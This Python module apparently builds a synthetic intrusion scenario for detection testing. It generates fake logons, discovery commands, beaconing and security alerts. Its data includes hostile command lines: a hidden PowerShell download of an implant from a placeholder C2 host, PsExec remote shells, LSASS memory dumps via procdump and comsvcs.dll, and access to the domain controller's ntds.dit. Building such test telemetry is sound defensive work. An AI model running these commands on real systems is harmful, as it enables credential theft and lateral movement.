"""The last hours: from a workstation to the file server, and to an administrator's password."""

from __future__ import annotations

from sentinel_mcp.local.scenario.clock import At
from sentinel_mcp.local.scenario.estate import Host, host
from sentinel_mcp.local.scenario.machines import (
    Actor,
    connection,
    file_written,
    logon,
    process,
    security,
    service_installed,
    share_opened,
)
from sentinel_mcp.local.scenario.model import Alert, File, Ip, Process, Row
from sentinel_mcp.local.scenario.names import C2_HOST, C2_IP, IMPLANT
from sentinel_mcp.local.scenario.people import Person, person
from sentinel_mcp.local.scenario.story.spray import CONTRACTOR, VPN_IP

HANDS = At("hands")
DESK = host(CONTRACTOR.host)
FILES = host("nw-fs-02")
DATABASE = host("nw-sql-01")
CONTROLLER = host("nw-dc-01")
ADMIN = person("adm-hkovacs")

SYSTEM32 = r"C:\Windows\System32"
TEMP = r"C:\Windows\Temp"
IMPLANT_FOLDER = r"C:\Users\Public\Libraries"
IMPLANT_COMMAND = f'"{IMPLANT_FOLDER}\\{IMPLANT}" -s {C2_HOST} -i 60'
DUMP_COMMAND = r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\nw02.dmp"
COMSVCS_COMMAND = (
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Windows\Temp\svc.dmp full"
)

_DISCOVERY = (
    ("whoami.exe", "whoami /all"),
    ("nltest.exe", "nltest /dclist:corp.northwind.example"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("net.exe", "net view /all"),
    ("systeminfo.exe", "systeminfo"),
)


def rows() -> list[Row]:
    """Return what it left behind."""
    return [
        *_at_the_desk(),
        *_refused(),
        *_psexec(FILES, CONTRACTOR, 35),
        *_dumped(),
        *_as_administrator(),
    ]


def _at_the_desk() -> list[Row]:
    found: list[Row] = []
    for minute in (0, 1):
        found += logon(HANDS.later(minutes=minute), DESK, CONTRACTOR, VPN_IP, kind=10, failed=True)
    found += logon(HANDS.later(minutes=3), DESK, CONTRACTOR, VPN_IP, kind=10, package="Negotiate")
    for number, (file, command) in enumerate(_DISCOVERY):
        at = HANDS.later(minutes=6, seconds=40 * number)
        found += process(at, DESK, CONTRACTOR, file, SYSTEM32, command, pid=7000 + number)
    found += process(
        HANDS.later(minutes=18), DESK, CONTRACTOR, "powershell.exe",
        rf"{SYSTEM32}\WindowsPowerShell\v1.0",
        "powershell.exe -nop -w hidden -c \"iwr https://"
        f"{C2_HOST}/u/{IMPLANT} -OutFile {IMPLANT_FOLDER}\\{IMPLANT}\"",
    )  # fmt: skip
    found.append(
        connection(
            HANDS.later(minutes=18), DESK, CONTRACTOR, "powershell.exe", C2_IP, 443, url=C2_HOST
        )
    )
    found.append(
        file_written(
            HANDS.later(minutes=18, seconds=20), DESK, CONTRACTOR, IMPLANT, IMPLANT_FOLDER, 418304,
            by="powershell.exe",
        )
    )  # fmt: skip
    found += process(
        HANDS.later(minutes=19), DESK, CONTRACTOR, IMPLANT, IMPLANT_FOLDER, IMPLANT_COMMAND,
        parent="powershell.exe", pid=7044,
    )  # fmt: skip
    # It calls home once a minute, give or take.
    found += [
        connection(
            HANDS.later(minutes=20 + number, seconds=number * 7 % 9), DESK, CONTRACTOR, IMPLANT,
            C2_IP, 443, url=C2_HOST,
        )
        for number in range(170)
    ]  # fmt: skip
    return found


def _refused() -> list[Row]:
    """Return tries on two other servers, where the account is no administrator."""
    found: list[Row] = []
    for number, name in enumerate(("nw-fs-01", "nw-erp-01", "nw-erp-01")):
        at = HANDS.later(minutes=29, seconds=50 * number)
        found += logon(at, host(name), CONTRACTOR, DESK.ip, failed=True, source_name=DESK.name)
    return found


def _psexec(target: Host, who: Person, minute: float, service: str = "PSEXESVC") -> list[Row]:
    """Return a remote execution with PsExec, on both machines."""
    at = HANDS.later(minutes=minute)
    binary = f"{service}.exe"
    command = f"PsExec64.exe \\\\{target.name} -accepteula -s cmd.exe"
    return [
        *process(at, DESK, who, "PsExec64.exe", IMPLANT_FOLDER, command, parent=IMPLANT, pid=7101),
        connection(at, DESK, who, "PsExec64.exe", target.ip, 445, url=target.fqdn),
        *logon(at.later(seconds=2), target, who, DESK.ip, source_name=DESK.name),
        security(
            at.later(seconds=2), target, 4672, who, SubjectUserName=who.sam,
            PrivilegeList="SeDebugPrivilege SeBackupPrivilege SeTakeOwnershipPrivilege",
        ),
        share_opened(at.later(seconds=3), target, who, DESK.ip, "ADMIN$", binary),
        *service_installed(at.later(seconds=4), target, who, service, f"%SystemRoot%\\{binary}"),
        *process(
            at.later(seconds=5), target, "system", binary, r"C:\Windows", f"C:\\Windows\\{binary}",
            parent="services.exe", parent_command="services.exe", pid=4208,
        ),
        share_opened(at.later(seconds=6), target, who, DESK.ip, "IPC$", f"{service}-{DESK.name}"),
        *process(
            at.later(seconds=7), target, "system", "cmd.exe", SYSTEM32, '"cmd.exe"',
            parent=binary, parent_command=binary, parent_folder=r"C:\Windows", pid=4212,
        ),
    ]  # fmt: skip


def _dumped() -> list[Row]:
    at = HANDS.later(minutes=52)
    system: Actor = "system"
    return [
        file_written(at, FILES, system, "procdump64.exe", TEMP, 424856, by="cmd.exe"),
        *process(
            at.later(minutes=1), FILES, system, "procdump64.exe", TEMP, DUMP_COMMAND, pid=4290
        ),
        *process(
            at.later(minutes=4), FILES, system, "rundll32.exe", SYSTEM32, COMSVCS_COMMAND, pid=4311
        ),
        file_written(
            at.later(minutes=4, seconds=9), FILES, system, "svc.dmp", TEMP, 61_405_184,
            by="rundll32.exe",
        ),
    ]  # fmt: skip


def _as_administrator() -> list[Row]:
    at = HANDS.later(minutes=80)
    found = [
        *logon(at, CONTROLLER, ADMIN, FILES.ip, source_name=FILES.name),
        *process(
            at.later(minutes=2), FILES, "system", "cmd.exe", SYSTEM32,
            "cmd.exe /c dir \\\\nw-dc-01\\c$\\Windows\\NTDS", parent="PSEXESVC.exe", pid=4350,
        ),
        share_opened(
            at.later(minutes=2), CONTROLLER, ADMIN, FILES.ip, "C$", r"Windows\NTDS\ntds.dit"
        ),
    ]  # fmt: skip
    # Its service was renamed this time.
    return [*found, *_psexec(DATABASE, ADMIN, 88, service="KzrTmQxe")]


def alerts() -> list[Alert]:
    """Return what was noticed of it."""
    psexec, dump = HANDS.later(minutes=35), HANDS.later(minutes=53)
    again = HANDS.later(minutes=56)
    service = Process(FILES, "PSEXESVC.exe", r"C:\Windows", r"C:\Windows\PSEXESVC.exe", 4208)
    tool = Process(FILES, "procdump64.exe", TEMP, DUMP_COMMAND, 4290)
    dumper = Process(FILES, "rundll32.exe", SYSTEM32, COMSVCS_COMMAND, 4311)
    return [
        Alert(
            key="implant",
            title="Suspicious file with a name like OneDrive called home",
            description="An unsigned file in a public folder connects to one address every minute.",
            severity="Medium",
            first=HANDS.later(minutes=18),
            last=HANDS.later(minutes=40),
            tactics=("CommandAndControl", "DefenseEvasion"),
            techniques=("T1071", "T1105", "T1036"),
            entities=(DESK, CONTRACTOR, Ip(C2_IP), File(IMPLANT, IMPLANT_FOLDER)),
            product="Microsoft Defender Advanced Threat Protection",
        ),
        Alert(
            key="psexec",
            title="PsExec service installed",
            description="A service as PsExec installs it appeared on a server over the network.",
            severity="Medium",
            first=psexec,
            last=psexec.later(seconds=7),
            tactics=("LateralMovement", "Execution"),
            techniques=("T1021", "T1569"),
            entities=(FILES, DESK, CONTRACTOR, Ip(DESK.ip), service),
            rule="psexec-service",
        ),
        Alert(
            key="psexec-again",
            title="PsExec service installed",
            description="A service as PsExec installs it appeared on a server over the network.",
            severity="Medium",
            first=HANDS.later(minutes=88),
            last=HANDS.later(minutes=88, seconds=7),
            tactics=("LateralMovement", "Execution"),
            techniques=("T1021", "T1569"),
            entities=(DATABASE, DESK, ADMIN, Ip(DESK.ip)),
            rule="psexec-service",
        ),
        Alert(
            key="lsass-dump-tool",
            title="Memory of LSASS was dumped",
            description="A tool tried to dump the process that holds credentials.",
            severity="High",
            first=dump,
            last=dump,
            tactics=("CredentialAccess",),
            techniques=("T1003",),
            entities=(FILES, tool, File("procdump64.exe", TEMP)),
            rule="lsass-dump",
        ),
        Alert(
            key="lsass-dump",
            title="Memory of LSASS was dumped",
            description="A dump of the process that holds credentials was written to disk.",
            severity="High",
            first=again,
            last=again,
            tactics=("CredentialAccess",),
            techniques=("T1003",),
            entities=(FILES, dumper, File("svc.dmp", TEMP)),
            rule="lsass-dump",
        ),
    ]
